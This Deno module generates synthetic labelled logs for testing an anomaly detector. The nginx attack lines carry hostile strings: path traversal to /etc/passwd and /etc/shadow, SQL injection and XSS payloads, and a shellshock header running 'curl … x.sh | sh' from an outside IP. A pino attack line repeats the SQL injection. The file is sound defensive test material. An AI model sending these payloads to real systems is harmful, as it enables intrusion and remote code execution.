/**
 * Labelled container logs of our own making for `deno task eval`: an nginx
 * access log (combined format) with several clients and bots, a pino JSON
 * API log, a postgres log, a python worker log and a logfmt service whose
 * counters keep growing. Each set has training lines (normal, with a little
 * contamination: a few anomalies of the same kinds, unlabelled, as real
 * history has) and test lines with about 2 % labelled anomalies. Attacks and
 * failures are written as the servers write them.
 *
 * @module
 */

import { createPrng, type Prng } from "../shared/detector/detector.ts";

/** One test line: its text and its anomaly class (null when normal). */
export interface LabelledLine {
  /** The log line. */
  line: string;
  /** Anomaly class, or null for a normal line. */
  label: string | null;
}

/** A generated set. */
export interface GeneratedSet {
  /** Name of the container kind. */
  kind: string;
  /** Training lines. */
  train: string[];
  /** Test lines with labels. */
  test: LabelledLine[];
}

type Gen = (r: Prng, i: number) => string;

function _pick<T>(r: Prng, xs: readonly T[]): T {
  return xs[r.nextInt(xs.length)]!;
}

function _hex(r: Prng, n: number): string {
  let s = "";
  for (let i = 0; i < n; i++) s += "0123456789abcdef"[r.nextInt(16)];
  return s;
}

/**
 * Build a set: normal lines from `normal`, anomalies from `attacks` (some in
 * bursts) at `rate`, contamination in training at `contamination`.
 */
function _build(
  kind: string,
  seed: number,
  normal: Gen,
  attacks: Record<string, Gen>,
  options: { train?: number; test?: number; rate?: number; contamination?: number } = {},
): GeneratedSet {
  const r = createPrng(seed);
  const nTrain = options.train ?? 20_000;
  const nTest = options.test ?? 10_000;
  const rate = options.rate ?? 0.02;
  const contamination = options.contamination ?? 0.002;
  const classes = Object.keys(attacks);
  const train: string[] = [];
  for (let i = 0; i < nTrain; i++) {
    if (r.next() < contamination) train.push(attacks[_pick(r, classes)]!(r, i));
    else train.push(normal(r, i));
  }
  const test: LabelledLine[] = [];
  let burst = 0;
  let burstClass = "";
  for (let i = 0; i < nTest; i++) {
    const t = nTrain + i;
    if (burst > 0) {
      burst--;
      test.push({ line: attacks[burstClass]!(r, t), label: burstClass });
      continue;
    }
    if (r.next() < rate / 3) {
      // An anomaly starts: alone or as a short burst (a scan, a broken upstream).
      burstClass = _pick(r, classes);
      burst = r.next() < 0.3 ? 1 + r.nextInt(5) : 0;
      test.push({ line: attacks[burstClass]!(r, t), label: burstClass });
      continue;
    }
    test.push({ line: normal(r, t), label: null });
  }
  return { kind, train, test };
}

const _MONTHS = [
  "Jan",
  "Feb",
  "Mar",
  "Apr",
  "May",
  "Jun",
  "Jul",
  "Aug",
  "Sep",
  "Oct",
  "Nov",
  "Dec",
];

function _nginxTime(i: number): string {
  const d = new Date(Date.UTC(2026, 2, 14, 8, 0, 0) + i * 731);
  const p = (x: number) => String(x).padStart(2, "0");
  return `${p(d.getUTCDate())}/${_MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${
    p(d.getUTCHours())
  }:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())} +0000`;
}

function _iso(i: number, ms = 731): string {
  return new Date(Date.UTC(2026, 2, 14, 8, 0, 0) + i * ms).toISOString();
}

const _BROWSERS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:125.0) Gecko/20100101 Firefox/125.0",
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
  "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
];
const _BOTS = [
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
  "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
];
const _WORDS = [
  "shoes",
  "red",
  "jacket",
  "winter",
  "sale",
  "kids",
  "running",
  "bag",
  "hat",
  "blue",
];

function _word(r: Prng): string {
  // A made-up word: searches are an open vocabulary.
  let s = "";
  const n = 3 + r.nextInt(6);
  for (let i = 0; i < n; i++) s += "abcdefghijklmnoprstuvwy"[r.nextInt(23)];
  return s;
}

function _nginxNormal(r: Prng, i: number): string {
  const x = r.next();
  let ip: string;
  let ua: string;
  let method = "GET";
  let path: string;
  let status = 200;
  let bytes = 0;
  let ref = "-";
  if (x < 0.08) {
    // Kubernetes probe and Prometheus scrape.
    ip = "10.42.0.1";
    const probe = r.next() < 0.6;
    ua = probe ? "kube-probe/1.29" : "Prometheus/2.51.1";
    path = probe ? "/healthz" : "/metrics";
    bytes = probe ? 2 : 4000 + r.nextInt(800);
  } else if (x < 0.16) {
    ip = `66.249.66.${r.nextInt(200) + 1}`;
    ua = _pick(r, _BOTS);
    path = _pick(r, ["/robots.txt", "/sitemap.xml", `/products/${1000 + r.nextInt(900)}`, "/"]);
    status = r.next() < 0.05 ? 404 : 200;
    bytes = 300 + r.nextInt(40000);
  } else {
    ip = `${_pick(r, ["81.2", "92.184", "203.0", "176.31", "5.146"])}.${r.nextInt(255)}.${
      r.nextInt(254) + 1
    }`;
    // Browsers update: the build numbers vary from client to client.
    ua = _pick(r, _BROWSERS).replace(
      /(Chrome|Firefox|Version)\/(\d+)\.[\d.]+/,
      (_, p, v) => `${p}/${Number(v) - r.nextInt(3)}.0.${r.nextInt(7000)}.${r.nextInt(200)}`,
    );
    ref = r.next() < 0.6 ? `https://shop.example.com/${_pick(r, ["", "products", "cart"])}` : "-";
    const y = r.next();
    if (y < 0.3) {
      path = `/static/${_pick(r, ["js/app", "js/vendor", "css/main"])}.${_hex(r, 8)}.${
        r.next() < 0.5 ? "js" : "css"
      }`;
      status = r.next() < 0.3 ? 304 : 200;
      bytes = status === 304 ? 0 : 20000 + r.nextInt(200000);
    } else if (y < 0.55) {
      path = `/api/v1/products?page=${1 + r.nextInt(20)}&sort=${
        _pick(r, ["price", "name", "new"])
      }`;
      bytes = 1000 + r.nextInt(9000);
    } else if (y < 0.7) {
      path = `/api/v1/products/${1000 + r.nextInt(900)}`;
      status = r.next() < 0.03 ? 404 : 200;
      bytes = 400 + r.nextInt(3000);
    } else if (y < 0.78) {
      path = `/search?q=${_pick(r, _WORDS)}+${_word(r)}`;
      bytes = 2000 + r.nextInt(20000);
    } else if (y < 0.86) {
      method = "POST";
      path = _pick(r, ["/api/v1/cart", "/api/v1/login", "/api/v1/orders"]);
      status = r.next() < 0.1 ? 401 : r.next() < 0.5 ? 201 : 200;
      bytes = 50 + r.nextInt(400);
    } else if (y < 0.93) {
      path = `/images/${_pick(r, _WORDS)}-${r.nextInt(300)}.jpg`;
      status = r.next() < 0.2 ? 304 : 200;
      bytes = status === 304 ? 0 : 5000 + r.nextInt(90000);
    } else {
      path = _pick(r, ["/", "/favicon.ico", "/cart", "/products", "/apple-touch-icon.png"]);
      status = path === "/apple-touch-icon.png" ? 404 : r.next() < 0.05 ? 301 : 200;
      bytes = 150 + r.nextInt(30000);
    }
  }
  const proto = r.next() < 0.7 ? "HTTP/1.1" : "HTTP/2.0";
  return `${ip} - - [${
    _nginxTime(i)
  }] "${method} ${path} ${proto}" ${status} ${bytes} "${ref}" "${ua}"`;
}

function _attackerIp(r: Prng): string {
  return `${_pick(r, ["45.155.205", "185.220.101", "193.142.146"])}.${r.nextInt(254) + 1}`;
}

function _nginxLine(
  r: Prng,
  i: number,
  request: string,
  status: number,
  bytes: number,
  ua: string,
  ip = _attackerIp(r),
): string {
  return `${ip} - - [${_nginxTime(i)}] "${request}" ${status} ${bytes} "-" "${ua}"`;
}

const _NGINX_ATTACKS: Record<string, Gen> = {
  path_traversal: (r, i) =>
    _nginxLine(
      r,
      i,
      `GET ${
        _pick(r, [
          "/static/../../../../etc/passwd",
          "/..%2f..%2f..%2f..%2fetc%2fpasswd",
          "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
          "/images/..%252f..%252f..%252fetc%252fshadow",
          "/api/v1/products/..%5c..%5c..%5cwindows%5cwin.ini",
        ])
      } HTTP/1.1`,
      _pick(r, [400, 404, 400]),
      157,
      _pick(r, _BROWSERS),
    ),
  sql_injection: (r, i) =>
    _nginxLine(
      r,
      i,
      `GET ${
        _pick(r, [
          `/api/v1/products?page=1%27%20OR%20%271%27%3D%271&sort=price`,
          `/api/v1/products?page=1+UNION+ALL+SELECT+NULL,NULL,concat(username,password)+FROM+users--+-&sort=name`,
          `/search?q=shoes%27%29%20AND%20SLEEP%285%29--%20`,
          `/api/v1/products/${1000 + r.nextInt(900)}%20AND%201=1`,
          `/api/v1/products?page=${r.nextInt(9)}'&sort=price`,
        ])
      } HTTP/1.1`,
      _pick(r, [200, 500, 400]),
      100 + r.nextInt(2000),
      _pick(r, _BROWSERS),
    ),
  scanner: (r, i) => {
    const which = r.nextInt(4);
    if (which === 0) {
      return _nginxLine(
        r,
        i,
        `GET /api/v1/products?page=${1 + r.nextInt(5)}&sort=price HTTP/1.1`,
        200,
        3000 + r.nextInt(5000),
        "sqlmap/1.8.2#stable (https://sqlmap.org)",
      );
    }
    if (which === 1) {
      return _nginxLine(
        r,
        i,
        `GET ${_pick(r, ["/", "/admin/", "/phpinfo.php", "/cgi-bin/test.cgi"])} HTTP/1.1`,
        404,
        153,
        `Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:00${1000 + r.nextInt(8000)})`,
      );
    }
    if (which === 2) {
      return _nginxLine(
        r,
        i,
        `GET ${
          _pick(r, ["/.env", "/.git/config", "/wp-login.php", "/actuator/env", "/server-status"])
        } HTTP/1.1`,
        404,
        153,
        "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
      );
    }
    return _nginxLine(r, i, "GET / HTTP/1.1", 200, 612, "Mozilla/5.0 zgrab/0.x");
  },
  upstream_failure: (r, i) => {
    const s = _pick(r, [502, 502, 504]);
    return `${_pick(r, ["81.2", "92.184"])}.${r.nextInt(255)}.${r.nextInt(254) + 1} - - [${
      _nginxTime(i)
    }] "GET /api/v1/products?page=${1 + r.nextInt(20)}&sort=price HTTP/1.1" ${s} ${
      s === 502 ? 157 : 167
    } "https://shop.example.com/products" "${_pick(r, _BROWSERS)}"`;
  },
  oversize_request: (r, i) =>
    _nginxLine(
      r,
      i,
      `GET /search?q=${"A".repeat(6000 + r.nextInt(3000))} HTTP/1.1`,
      414,
      169,
      _pick(r, _BROWSERS),
    ),
  xss: (r, i) =>
    _nginxLine(
      r,
      i,
      `GET /search?q=${
        _pick(r, [
          "%3Cscript%3Ealert(document.cookie)%3C/script%3E",
          "<svg/onload=alert(1)>",
          "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        ])
      } HTTP/1.1`,
      200,
      2100 + r.nextInt(400),
      _pick(r, _BROWSERS),
    ),
  bad_request: (r, i) =>
    _nginxLine(
      r,
      i,
      _pick(r, [
        "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03\\x8A",
        "CONNECT www.google.com:443 HTTP/1.1",
        "PROPFIND / HTTP/1.1",
        "-",
      ]),
      400,
      157,
      "-",
    ),
  shellshock: (r, i) =>
    _nginxLine(
      r,
      i,
      "GET /cgi-bin/status HTTP/1.1",
      404,
      153,
      '() { :; }; /bin/bash -c \\"curl -s http://45.155.205.9/x.sh | sh\\"',
    ),
};

/**
 * nginx access log (combined), several clients and bots.
 *
 * @param seed PRNG seed.
 * @param contamination Share of anomalies in the training lines.
 * @returns The set.
 */
export function nginxSet(seed = 11, contamination = 0.002): GeneratedSet {
  return _build("nginx access log", seed, _nginxNormal, _NGINX_ATTACKS, { contamination });
}

function _pino(i: number, level: number, fields: Record<string, unknown>, msg: string): string {
  return JSON.stringify({
    level,
    time: Date.UTC(2026, 2, 14) + i * 411,
    pid: 7,
    hostname: "api-7d9f8c-x2k",
    ...fields,
    msg,
  });
}

function _pinoNormal(r: Prng, i: number): string {
  const x = r.next();
  const reqId = `req-${(i * 7).toString(36)}`;
  if (x < 0.7) {
    const route = _pick(r, ["/v1/users/", "/v1/orders/", "/v1/products/"]);
    const method = r.next() < 0.8 ? "GET" : "POST";
    const status = method === "POST" ? 201 : r.next() < 0.04 ? 404 : 200;
    return _pino(i, 30, {
      reqId,
      req: {
        method,
        url: `${route}${r.nextInt(100000)}`,
        remoteAddress: `10.0.${r.nextInt(4)}.${r.nextInt(250)}`,
      },
      res: { statusCode: status },
      responseTime: 2 + r.nextInt(80),
    }, "request completed");
  }
  if (x < 0.8) return _pino(i, 20, { key: `user:${r.nextInt(100000)}` }, "cache hit");
  if (x < 0.88) return _pino(i, 30, { userId: r.nextInt(100000) }, "user logged in");
  if (x < 0.95) {
    return _pino(i, 30, { orderId: _hex(r, 12), total: r.nextInt(50000) / 100 }, "order created");
  }
  if (x < 0.99) return _pino(i, 40, { durationMs: 200 + r.nextInt(300) }, "slow query");
  return _pino(i, 30, { jobs: r.nextInt(20) }, "queue drained");
}

const _PINO_ATTACKS: Record<string, Gen> = {
  server_error: (r, i) =>
    _pino(i, 50, {
      reqId: `req-${i.toString(36)}`,
      req: { method: "GET", url: `/v1/orders/${r.nextInt(100000)}`, remoteAddress: "10.0.1.9" },
      res: { statusCode: 500 },
      err: {
        type: "Error",
        message: "connect ECONNREFUSED 10.0.0.5:5432",
        stack: "Error: connect ECONNREFUSED 10.0.0.5:5432\n    at TCPConnectWrap.afterConnect",
      },
      responseTime: 3 + r.nextInt(20),
    }, "request errored"),
  timeout: (r, i) =>
    _pino(i, 30, {
      reqId: `req-${i.toString(36)}`,
      req: { method: "GET", url: `/v1/products/${r.nextInt(100000)}`, remoteAddress: "10.0.2.4" },
      res: { statusCode: 200 },
      responseTime: 28000 + r.nextInt(4000),
    }, "request completed"),
  unauthorized: (r, i) =>
    _pino(i, 30, {
      reqId: `req-${i.toString(36)}`,
      req: { method: "POST", url: "/v1/admin/users", remoteAddress: "185.220.101.7" },
      res: { statusCode: 403 },
      responseTime: 1 + r.nextInt(5),
    }, "request completed"),
  crash: (_r, i) =>
    _pino(
      i,
      60,
      { err: { type: "TypeError", message: "Cannot read properties of undefined (reading 'id')" } },
      "uncaught exception",
    ),
  injection: (r, i) =>
    _pino(i, 30, {
      reqId: `req-${i.toString(36)}`,
      req: {
        method: "GET",
        url: `/v1/users/1%27%20OR%201=1--`,
        remoteAddress: "45.155.205.3",
      },
      res: { statusCode: 200 },
      responseTime: 5 + r.nextInt(30),
    }, "request completed"),
  pool_exhausted: (_r, i) =>
    _pino(i, 40, { waiting: 120, size: 20 }, "database pool exhausted, waiting for a connection"),
};

/**
 * pino JSON API log.
 *
 * @param seed PRNG seed.
 * @param contamination Share of anomalies in the training lines.
 * @returns The set.
 */
export function pinoSet(seed = 12, contamination = 0.002): GeneratedSet {
  return _build("pino JSON api", seed, _pinoNormal, _PINO_ATTACKS, { contamination });
}

function _pg(i: number, pid: number, level: string, msg: string): string {
  const t = _iso(i, 997).replace("T", " ").replace("Z", " UTC");
  return `${t} [${pid}] ${level}:  ${msg}`;
}

function _pgNormal(r: Prng, i: number): string {
  const pid = 1000 + r.nextInt(300);
  const x = r.next();
  const host = `10.0.${r.nextInt(3)}.${r.nextInt(250)}`;
  if (x < 0.25) {
    return _pg(i, pid, "LOG", `connection received: host=${host} port=${40000 + r.nextInt(20000)}`);
  }
  if (x < 0.5) {
    return _pg(i, pid, "LOG", `connection authorized: user=app database=shop application_name=api`);
  }
  if (x < 0.75) {
    return _pg(
      i,
      pid,
      "LOG",
      `disconnection: session time: 0:00:0${r.nextInt(10)}.${
        100 + r.nextInt(900)
      } user=app database=shop host=${host} port=${40000 + r.nextInt(20000)}`,
    );
  }
  if (x < 0.93) {
    return _pg(
      i,
      pid,
      "LOG",
      `duration: ${(r.next() * 40 + 1).toFixed(3)} ms  statement: SELECT * FROM orders WHERE id = ${
        r.nextInt(100000)
      }`,
    );
  }
  if (x < 0.97) {
    return _pg(i, 27, "LOG", `automatic vacuum of table "shop.public.orders": index scans: 1`);
  }
  if (x < 0.985) return _pg(i, 26, "LOG", "checkpoint starting: time");
  return _pg(
    i,
    26,
    "LOG",
    `checkpoint complete: wrote ${r.nextInt(900)} buffers (${
      (r.next() * 5).toFixed(1)
    }%); 0 WAL file(s) added, 0 removed, ${r.nextInt(3)} recycled; write=${
      (r.next() * 30).toFixed(3)
    } s, sync=0.00${r.nextInt(9)} s, total=${(r.next() * 30).toFixed(3)} s`,
  );
}

const _PG_ATTACKS: Record<string, Gen> = {
  auth_failure: (r, i) =>
    _pg(
      i,
      2000 + r.nextInt(99),
      "FATAL",
      `password authentication failed for user "${_pick(r, ["admin", "postgres", "root"])}"`,
    ),
  duplicate_key: (r, i) =>
    _pg(
      i,
      1000 + r.nextInt(300),
      "ERROR",
      `duplicate key value violates unique constraint "orders_pkey"`,
    ),
  deadlock: (r, i) => _pg(i, 1000 + r.nextInt(300), "ERROR", "deadlock detected"),
  slow_query: (r, i) =>
    _pg(
      i,
      1000 + r.nextInt(300),
      "LOG",
      `duration: ${
        (30000 + r.next() * 20000).toFixed(3)
      } ms  statement: SELECT * FROM orders WHERE id = ${r.nextInt(100000)}`,
    ),
  crash: (r, i) =>
    _pg(
      i,
      1,
      "LOG",
      `server process (PID ${1000 + r.nextInt(300)}) was terminated by signal 9: Killed`,
    ),
  too_many: (r, i) => _pg(i, 2000 + r.nextInt(99), "FATAL", "sorry, too many clients already"),
  syntax: (r, i) =>
    _pg(
      i,
      1000 + r.nextInt(300),
      "ERROR",
      `syntax error at or near "UNION" at character ${20 + r.nextInt(40)}`,
    ),
};

/**
 * postgres log.
 *
 * @param seed PRNG seed.
 * @param contamination Share of anomalies in the training lines.
 * @returns The set.
 */
export function postgresSet(seed = 13, contamination = 0.002): GeneratedSet {
  return _build("postgres", seed, _pgNormal, _PG_ATTACKS, { contamination });
}

function _py(i: number, level: string, logger: string, msg: string): string {
  const t = _iso(i, 503).replace("T", " ").replace("Z", "").replace(".", ",");
  return `${t} ${level} [${logger}] ${msg}`;
}

function _pyNormal(r: Prng, i: number): string {
  const x = r.next();
  const task = _pick(r, ["process_order", "send_email", "resize_image"]);
  const id = `${_hex(r, 8)}-${_hex(r, 4)}-${_hex(r, 4)}-${_hex(r, 4)}-${_hex(r, 12)}`;
  if (x < 0.4) return _py(i, "INFO", "worker.tasks", `Task ${task}[${id}] received`);
  if (x < 0.8) {
    return _py(
      i,
      "INFO",
      "worker.tasks",
      `Task ${task}[${id}] succeeded in ${(r.next() * 2).toFixed(3)}s: None`,
    );
  }
  if (x < 0.9) return _py(i, "DEBUG", "worker.redis", `heartbeat sent to redis://redis:6379/0`);
  if (x < 0.97) {
    return _py(i, "INFO", "worker.beat", `Scheduler: Sending due task cleanup (tasks.cleanup)`);
  }
  return _py(
    i,
    "WARNING",
    "worker.tasks",
    `Task ${task}[${id}] retry: Retry in ${5 + r.nextInt(20)}s`,
  );
}

const _PY_ATTACKS: Record<string, Gen> = {
  task_error: (r, i) =>
    _py(
      i,
      "ERROR",
      "worker.tasks",
      `Task process_order[${_hex(r, 8)}-${_hex(r, 4)}-${_hex(r, 4)}-${_hex(r, 4)}-${
        _hex(r, 12)
      }] raised unexpected: ConnectionError('Error 111 connecting to redis:6379. Connection refused.')`,
    ),
  traceback: (_r, i) => _py(i, "ERROR", "worker.tasks", "Traceback (most recent call last):"),
  slow_task: (r, i) =>
    _py(
      i,
      "INFO",
      "worker.tasks",
      `Task resize_image[${_hex(r, 8)}-${_hex(r, 4)}-${_hex(r, 4)}-${_hex(r, 4)}-${
        _hex(r, 12)
      }] succeeded in ${(200 + r.next() * 300).toFixed(3)}s: None`,
    ),
  worker_lost: (r, i) =>
    _py(
      i,
      "CRITICAL",
      "worker.pool",
      `Process 'ForkPoolWorker-${r.nextInt(8)}' pid:${
        100 + r.nextInt(900)
      } exited with 'signal 9 (SIGKILL)'`,
    ),
  memory: (_r, i) =>
    _py(i, "ERROR", "worker.tasks", "MemoryError: Unable to allocate 2.00 GiB for an array"),
};

/**
 * python (celery-style) worker log.
 *
 * @param seed PRNG seed.
 * @param contamination Share of anomalies in the training lines.
 * @returns The set.
 */
export function pythonWorkerSet(seed = 14, contamination = 0.002): GeneratedSet {
  return _build("python worker", seed, _pyNormal, _PY_ATTACKS, { contamination });
}

/**
 * A service printing growing counters, in logfmt and in plain text: training
 * lines count from 1, test lines from ten times past the training range. All
 * test lines are normal.
 *
 * @param seed PRNG seed.
 * @returns Training lines and (normal) test lines.
 */
export function counterSet(seed = 15): { train: string[]; test: string[] } {
  const r = createPrng(seed);
  const line = (i: number, base: number) => {
    const req = base + i;
    const up = ((base + i) * 0.73).toFixed(1);
    if (r.next() < 0.5) {
      return `time=${_iso(i)} level=info msg="request served" req=${req} seq=${
        req * 3 + 7
      } uptime_s=${up} path=/api/items status=200 dur_ms=${1 + r.nextInt(40)}`;
    }
    return `${_iso(i)} worker heartbeat req=${req} seq=${req * 3 + 7} uptime_s=${up} offset=${
      req * 512
    } queue=${r.nextInt(10)}`;
  };
  const train: string[] = [];
  for (let i = 0; i < 5000; i++) train.push(line(i, 1));
  const test: string[] = [];
  for (let i = 0; i < 5000; i++) test.push(line(i, 50_000));
  return { train, test };
}
